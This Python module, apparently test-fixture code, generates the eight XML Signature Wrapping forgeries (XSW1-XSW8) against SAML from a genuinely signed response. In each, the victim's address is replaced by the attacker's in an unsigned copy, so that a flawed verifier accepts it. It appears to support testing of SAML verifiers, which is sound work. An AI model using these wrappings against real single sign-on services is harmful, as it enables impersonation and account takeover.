"""Answers changed after they were signed: the eight known wrappings (XSW1-XSW8), built from a really signed answer.

In each, a signature that holds covers Anna's assertion or answer, and another part of the document names Mallory.
Source: Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (USENIX Security 2012).
"""

from collections.abc import Callable
from copy import deepcopy
from xml.etree.ElementTree import Element, SubElement, fromstring, tostring

SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
VICTIM, ATTACKER = "anna@storkoping.example", "mallory@storkoping.example"

Wrapping = Callable[[Element], Element]


def evil_copy(element: Element) -> Element:
    """A copy that names Mallory, has another ID, and no signature."""
    copy = deepcopy(element)
    copy.set("ID", "_evil")
    for value in copy.iter(f"{SAML}AttributeValue"):
        value.text = (value.text or "").replace(VICTIM, ATTACKER)
    for inner in copy.iter():
        for signature in inner.findall(f"{DS}Signature"):
            inner.remove(signature)
    return copy


def unsigned_copy(element: Element) -> Element:
    copy = deepcopy(element)
    copy.remove(copy.find(f"{DS}Signature"))
    return copy


def xsw1(root: Element) -> Element:
    """A forged answer carries the signature, and the signed answer inside the signature."""
    evil = evil_copy(root)
    signature = deepcopy(root.find(f"{DS}Signature"))
    signature.append(unsigned_copy(root))
    evil.insert(1, signature)
    return evil


def xsw2(root: Element) -> Element:
    """As the first, with the signature beside the signed answer."""
    evil = evil_copy(root)
    evil.insert(1, unsigned_copy(root))
    evil.insert(2, deepcopy(root.find(f"{DS}Signature")))
    return evil


def xsw3(root: Element) -> Element:
    """A forged assertion before the signed one."""
    original = root.find(f"{SAML}Assertion")
    root.insert(list(root).index(original), evil_copy(original))
    return root


def xsw4(root: Element) -> Element:
    """The signed assertion inside a forged one."""
    original = root.find(f"{SAML}Assertion")
    evil = evil_copy(original)
    root.remove(original)
    evil.append(original)
    root.append(evil)
    return root


def xsw5(root: Element) -> Element:
    """The signature stays in an assertion that has been changed; the original lies last, bare."""
    assertion = root.find(f"{SAML}Assertion")
    original = unsigned_copy(assertion)
    evil = evil_copy(assertion)
    evil.insert(1, deepcopy(assertion.find(f"{DS}Signature")))
    root.remove(assertion)
    root.append(evil)
    root.append(original)
    return root


def xsw6(root: Element) -> Element:
    """As the fifth, with the original inside the signature."""
    assertion = root.find(f"{SAML}Assertion")
    evil = evil_copy(assertion)
    signature = deepcopy(assertion.find(f"{DS}Signature"))
    signature.append(unsigned_copy(assertion))
    evil.insert(1, signature)
    root.remove(assertion)
    root.append(evil)
    return root


def xsw7(root: Element) -> Element:
    """A forged assertion in an extension, where the schema allows anything."""
    extensions = Element(f"{SAMLP}Extensions")
    extensions.append(evil_copy(root.find(f"{SAML}Assertion")))
    root.insert(1, extensions)
    return root


def xsw8(root: Element) -> Element:
    """The original inside an Object of the signature of a forged assertion, where the schema allows anything."""
    assertion = root.find(f"{SAML}Assertion")
    evil = evil_copy(assertion)
    signature = deepcopy(assertion.find(f"{DS}Signature"))
    SubElement(signature, f"{DS}Object").append(unsigned_copy(assertion))
    evil.insert(1, signature)
    root.remove(assertion)
    root.append(evil)
    return root


WRAPPINGS: dict[str, Wrapping] = {
    f"XSW{number}": wrapping for number, wrapping in enumerate((xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8), 1)
}
SIGNS_THE_ANSWER = frozenset({"XSW1", "XSW2"})


def wrapped(answer: str, name: str) -> str:
    """A signed answer after this wrapping."""
    return tostring(WRAPPINGS[name](fromstring(answer)), encoding="unicode")
